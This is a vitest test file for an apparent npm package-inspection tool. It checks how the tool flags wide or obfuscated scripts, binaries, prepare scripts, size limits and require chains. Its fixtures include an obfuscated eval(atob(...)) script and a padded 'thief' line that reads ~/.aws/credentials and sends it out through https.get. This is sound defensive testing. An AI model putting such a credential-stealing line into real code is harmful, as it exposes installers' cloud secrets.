import { describe, expect, test } from 'vitest';
import { type InspectionLimits, openInspection } from '../../src/content/inspection.ts';
import { contentOf, readBytes, tarballWith } from './bytes.ts';

const wide = (bytes: number) => 'x'.repeat(bytes);
const program = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0]), Buffer.alloc(10_000, 1)]);

async function codeOf(files: Readonly<Record<string, string | Buffer>>, limits?: Partial<InspectionLimits>) {
  const entries = Object.entries(files).map(([path, body]) => ({ path: `package/${path}`, body }));
  const content = await contentOf(tarballWith(...entries), { inspection: openInspection(limits) });
  if (content.code === undefined) throw new Error('nothing was looked into');
  return content.code;
}

describe('the record of a package', () => {
  test('has those files alone that show something', async () => {
    const { files } = await codeOf({
      'index.js': 'module.exports = 1;\n',
      'wide.js': wide(2_001),
      'narrow.js': wide(2_000),
      'wide.json': JSON.stringify(wide(9_000)),
      run: program,
      'logo.png': Buffer.concat([Buffer.from('\x89PNG', 'latin1'), Buffer.alloc(9_000)]),
    });
    expect([...files.keys()].sort()).toEqual(['run', 'wide.js']);
    expect(files.get('run')).toMatchObject({ kind: 'binary', format: 'ELF' });
    expect(files.get('wide.js')).toMatchObject({ kind: 'script', longestLine: 2_001, entropy: 0 });
  });

  test('is that of the last of two files with one path', async () => {
    const twice = tarballWith(
      { path: 'package/a.js', body: wide(3_000) },
      { path: 'package/b.js', body: 'small' },
      { path: 'package/a.js', body: 'small' },
      { path: 'package/b.js', body: wide(3_000) },
    );
    const { code } = await contentOf(twice, { inspection: openInspection() });
    expect([...(code?.files.keys() ?? [])]).toEqual(['b.js']);
  });

  test('survives being copied between threads, and as JSON but for its maps', async () => {
    const code = await codeOf({ 'wide.js': wide(3_000) });
    expect(structuredClone(code)).toEqual(code);
    const plain = { ...code, files: [...code.files] };
    expect(JSON.parse(JSON.stringify(plain))).toEqual(plain);
  });
});

test.each([
  ['a file that shows nothing', 'run()', true, []],
  ['a file that nobody can read', 'eval(atob("YQ=="))', true, ['build.js']],
  ['a clone', 'run()', false, ['build.js']],
])('what prepares it is followed where it counts: %s', async (_what, body, comesPacked, expected) => {
  const bytes = tarballWith(
    {
      path: 'package/package.json',
      body: '{"name":"a","version":"1.0.0","scripts":{"prepare":"node build.js"}}',
    },
    { path: 'package/build.js', body },
  );
  const { code } = await contentOf(bytes, { inspection: openInspection({}, { comesPacked }) });
  expect(code?.clone.files.map(({ path }) => path)).toEqual(expected);
});

describe('limits', () => {
  test('a script that is too large to be matched is told as unread', async () => {
    const large = `${wide(50)}\n`.repeat(200);
    const { files } = await codeOf({ 'a.js': large, 'b.js': large.slice(1) }, { matchedBytes: 10_199 });
    expect([...files]).toEqual([
      ['a.js', expect.objectContaining({ kind: 'script', unread: 'it has more than 10199 bytes' })],
    ]);
  });

  test('bytes of machine code, and of documents that are too large to be kept, are not wanted', () => {
    const { wants } = openInspection({ keptFileBytes: 100, matchedBytes: 1_000 });
    expect(wants('run', 50, program)).toBe(false);
    expect(wants('a.map', 101, Buffer.from('text'))).toBe(false);
    expect(wants('a.map', 100, Buffer.from('text'))).toBe(true);
    expect(wants('a.js', 1_000, program)).toBe(true);
    expect(wants('a.js', 1_001, program)).toBe(false);
  });
});

describe('a file that an import loads by way of others', () => {
  const thief =
    "require('https').get(require('fs').readFileSync(require('os').homedir() + '/.aws/credentials'))";
  const padded = `${'module.exports = 1;\n'.repeat(60_000)}require('./test/x');`;
  const hostile = { 'index.js': "require('./lib');\n", 'lib.js': padded, 'test/x.js': thief };

  test('is found where those are too large to be kept', async () => {
    expect((await codeOf(hostile)).load).toEqual(['index.js', 'test/x.js']);
  });

  test('is found where all together are too large to be kept', async () => {
    const { load } = await codeOf(hostile, { keptFileBytes: 2 ** 30, keptBytes: 1_000_000 });
    expect(load).toEqual(['index.js', 'test/x.js']);
  });

  test('counts as loaded, and that is told, where one of them is too large to be read', async () => {
    const { load, files } = await codeOf(hostile, { matchedBytes: 1_000_000 });
    expect(load).toEqual(['index.js', 'test/x.js']);
    expect(files.get('package.json')).toMatchObject({ unread: 'it loads more than is followed' });
  });
});

test('nothing is looked into where nobody asks for it', async () => {
  const content = await contentOf(tarballWith({ path: 'package/wide.js', body: wide(3_000) }));
  expect(content.code).toBeUndefined();
});

describe('bundled packages', () => {
  const manifest = (name: string) => JSON.stringify({ name, version: '1.0.0' });

  test('have their own code under their own paths, at any depth', async () => {
    const reading = await readBytes(
      tarballWith(
        { path: 'package/node_modules/@s/b/package.json', body: manifest('@s/b') },
        { path: 'package/node_modules/@s/b/wide.js', body: wide(3_000) },
        { path: 'package/node_modules/@s/b/lib/package.json', body: '{"type":"module"}' },
        { path: 'package/node_modules/@s/b/node_modules/c/package.json', body: manifest('c') },
        { path: 'package/node_modules/@s/b/node_modules/c/wide.js', body: wide(4_000) },
        { path: 'package/node_modules/.bin/package.json', body: manifest('x') },
        { path: 'package/node_modules/@s/package.json', body: manifest('s') },
        { path: 'package/node_modules/broken/package.json', body: '{' },
      ),
      { inspection: openInspection(), keep: (path) => path.endsWith('/package.json') },
    );
    if (reading.status !== 'read') throw new Error(reading.detail);
    const parts = [...(reading.parts ?? [])].map(([folder, { files }]) => [folder, [...files.keys()]]);
    expect(parts).toEqual([
      ['node_modules/@s/b', ['wide.js', 'node_modules/c/wide.js']],
      ['node_modules/@s/b/node_modules/c', ['wide.js']],
    ]);
    expect([...(reading.content.code?.files.keys() ?? [])]).toEqual([
      'node_modules/@s/b/wide.js',
      'node_modules/@s/b/node_modules/c/wide.js',
    ]);
  });
});
